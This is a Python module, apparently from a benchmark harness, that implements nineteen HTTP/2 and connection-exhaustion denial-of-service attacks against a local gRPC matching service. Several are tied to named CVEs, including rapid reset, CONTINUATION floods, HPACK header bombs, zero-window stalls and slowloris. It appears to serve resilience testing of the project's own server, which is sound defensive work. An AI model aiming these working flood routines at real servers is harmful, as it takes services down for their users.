"""The ways to misbehave, one function each, as bursts that may be repeated for ever.

Every function connects, and then yields after each burst. A peer that cuts it off ends it
with a ConnectionError. Nothing here measures.
"""

from __future__ import annotations

import os
import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing

from hpack import Encoder

from imageward.v1 import hash_pb2, match_pb2
from imageward_bench.grpc_wire import (
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    PREFACE,
    READ_BYTES,
    Connection,
    Kind,
    frame,
    header_block,
    message,
    request_headers,
    settings,
    window_update,
)

Bursts = Iterator[None]
ABUSER = "127.0.0.66"
CHECK = "/imageward.v1.MatchService/CheckHashes"
BURST = 1_000
CALLS = 90
IDLE_CONNECTIONS = 2_000
SLOW_CONNECTIONS = 200
CANCEL = struct.pack(">I", 8)


def connect(port: int, opening: bytes | None = None) -> Connection:
    """Connect from the abuser's own address."""
    return Connection(("127.0.0.1", port), ABUSER, opening)


def check_body(count: int = 1) -> bytes:
    """Return the message of a check of so many hashes."""
    hashes = [hash_pb2.PdqHash(pdq=os.urandom(32))] * count
    return message(match_pb2.CheckHashesRequest(hashes=hashes).SerializeToString())


def _flood(port: int, frames: bytes) -> Bursts:
    with closing(connect(port)) as connection:
        while True:
            connection.send_all(frames)
            connection.discard()
            yield


def _never_read(port: int, window: int) -> Bursts:
    """Make calls whose answers may not be sent, and begin anew when they are gone."""
    headers, body = request_headers(CHECK, timeout=""), check_body(128)
    while True:
        with closing(connect(port, PREFACE + settings(_4=window))) as connection:
            for _ in range(CALLS):
                connection.call(headers, body)
            for _ in range(BURST):
                for _answer in connection.answers():
                    pass
                yield


def rapid_reset(port: int) -> Bursts:
    """Open calls and reset each at once (CVE-2023-44487)."""
    headers, body = request_headers(CHECK), check_body()
    with closing(connect(port)) as connection:
        stream = 1
        while True:
            calls = bytearray()
            for _ in range(CALLS):
                calls += frame(Kind.HEADERS, END_HEADERS, stream, headers)
                calls += frame(Kind.DATA, END_STREAM, stream, body)
                calls += frame(Kind.RST_STREAM, 0, stream, CANCEL)
                stream += 2
            connection.send_all(bytes(calls))
            connection.discard()
            yield


def made_you_reset(port: int) -> Bursts:
    """Open calls and make the server reset each, by a window update of 0 (CVE-2025-8671)."""
    headers = request_headers(CHECK)
    with closing(connect(port)) as connection:
        stream = 1
        while True:
            calls = bytearray()
            for _ in range(CALLS):
                calls += frame(Kind.HEADERS, END_HEADERS, stream, headers)
                calls += window_update(stream, 0)
                stream += 2
            connection.send_all(bytes(calls))
            connection.discard()
            yield


def ping_flood(port: int) -> Bursts:
    """Send pings as fast as possible (CVE-2019-9512)."""
    return _flood(port, frame(Kind.PING, 0, 0, bytes(8)) * BURST)


def settings_flood(port: int) -> Bursts:
    """Send settings, each of which must be acknowledged (CVE-2019-9515)."""
    return _flood(port, settings(_4=65_535) * BURST)


def window_update_flood(port: int) -> Bursts:
    """Send window updates of one byte."""
    return _flood(port, window_update(0, 1) * BURST)


def priority_flood(port: int) -> Bursts:
    """Send priorities of streams that are not there (CVE-2019-9513)."""
    return _flood(port, frame(Kind.PRIORITY, 0, 5, struct.pack(">IB", 3, 16)) * BURST)


def unknown_frame_flood(port: int) -> Bursts:
    """Send frames of a kind that does not exist."""
    return _flood(port, frame(0xB7, 0, 0, bytes(16)) * BURST)


def empty_data_flood(port: int) -> Bursts:
    """Send a body of empty frames that never ends (CVE-2019-9518)."""
    with closing(connect(port)) as connection:
        connection.send_all(frame(Kind.HEADERS, END_HEADERS, 1, request_headers(CHECK, "")))
        while True:
            connection.send_all(frame(Kind.DATA, 0, 1) * BURST)
            connection.discard()
            yield


def continuation_flood(port: int) -> Bursts:
    """Send headers that never end (CVE-2024-27316)."""
    with closing(connect(port)) as connection:
        connection.send_all(frame(Kind.HEADERS, 0, 1, request_headers(CHECK)))
        field = header_block({"x-padding": "x" * 4_000})
        while True:
            connection.send_all(frame(Kind.CONTINUATION, 0, 1, field) * 50)
            connection.discard()
            yield


def oversized_headers(port: int) -> Bursts:
    """Send calls with headers of 64 KiB, over the bound, whole and well formed."""
    padding = {f"x-{number}": "x" * 4_000 for number in range(16)}
    headers = request_headers(CHECK, **padding)
    parts = [headers[at : at + FRAME_BYTES] for at in range(0, len(headers), FRAME_BYTES)]
    with closing(connect(port)) as connection:
        stream = 1
        while True:
            connection.send_all(frame(Kind.HEADERS, 0, stream, parts[0]))
            for part in parts[1:-1]:
                connection.send_all(frame(Kind.CONTINUATION, 0, stream, part))
            connection.send_all(frame(Kind.CONTINUATION, END_HEADERS, stream, parts[-1]))
            stream += 2
            connection.discard()
            yield


def header_bomb(port: int) -> Bursts:
    """Send one long header once and then refer to it thousands of times (CVE-2016-6581)."""
    encoder = Encoder()
    first = encoder.encode([(b"x-long", b"x" * 4_000)])
    again = encoder.encode([(b"x-long", b"x" * 4_000)])
    block = request_headers(CHECK) + first + again * 4_000
    with closing(connect(port)) as connection:
        stream = 1
        while True:
            connection.send_all(frame(Kind.HEADERS, END_HEADERS, stream, block[:FRAME_BYTES]))
            stream += 2
            connection.discard()
            yield


def slow_reader(port: int) -> Bursts:
    """Ask for answers and take them a byte at a time."""
    return _never_read(port, window=1)


def zero_window(port: int) -> Bursts:
    """Ask for answers and take nothing (CVE-2019-9511)."""
    return _never_read(port, window=0)


def endless_body(port: int) -> Bursts:
    """Begin calls and send a byte of their messages now and then, without a deadline."""
    headers = request_headers(CHECK, timeout="")
    while True:
        with closing(connect(port)) as connection:
            streams = range(1, 2 * CALLS, 2)
            for stream in streams:
                connection.send_all(frame(Kind.HEADERS, END_HEADERS, stream, headers))
            for _ in range(BURST):
                connection.send_all(b"".join(frame(Kind.DATA, 0, one, b"\0") for one in streams))
                connection.discard()
                yield


def promised_body(port: int) -> Bursts:
    """Announce messages of 35 MB, and stop where the windows end."""
    headers = request_headers(CHECK, timeout="")
    body = struct.pack(">BI", 0, 35_000_000) + bytes(FRAME_BYTES - 5)
    while True:
        with closing(connect(port)) as connection:
            for stream in range(1, 8, 2):
                connection.send_all(frame(Kind.HEADERS, END_HEADERS, stream, headers))
                connection.send_all(frame(Kind.DATA, 0, stream, body))
            for _ in range(BURST):
                connection.discard()
                yield


def half_open(port: int) -> Bursts:
    """Connect and say nothing."""
    return _many(port, SLOW_CONNECTIONS, b"")


def idle_connections(port: int) -> Bursts:
    """Hold thousands of connections on which nothing happens."""
    return _many(port, IDLE_CONNECTIONS, PREFACE + settings())


def slow_preface(port: int) -> Bursts:
    """Send the first bytes of many connections one at a time (slowloris)."""
    with ExitStack() as stack:
        sockets = [stack.enter_context(_socket(port)) for _ in range(SLOW_CONNECTIONS)]
        for byte in PREFACE * BURST:
            for one in sockets:
                one.send(bytes([byte]))
                yield


def garbage(port: int) -> Bursts:
    """Send what is no HTTP/2 at all."""
    with _socket(port) as one:
        one.send(b"\x16\x03\x01" + os.urandom(4_000))
        yield
        while one.recv(READ_BYTES):
            yield
    raise ConnectionError("closed by the peer")


def _many(port: int, count: int, opening: bytes) -> Bursts:
    with ExitStack() as stack:
        for _ in range(count):
            stack.enter_context(_socket(port)).send(opening)
            yield
        while True:
            yield


def _socket(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 10, (ABUSER, 0))


KINDS: dict[str, Callable[[int], Bursts]] = {
    kind.__name__: kind
    for kind in (
        rapid_reset,
        made_you_reset,
        ping_flood,
        settings_flood,
        window_update_flood,
        priority_flood,
        unknown_frame_flood,
        empty_data_flood,
        continuation_flood,
        oversized_headers,
        header_bomb,
        slow_reader,
        zero_window,
        endless_body,
        promised_body,
        half_open,
        idle_connections,
        slow_preface,
        garbage,
    )
}
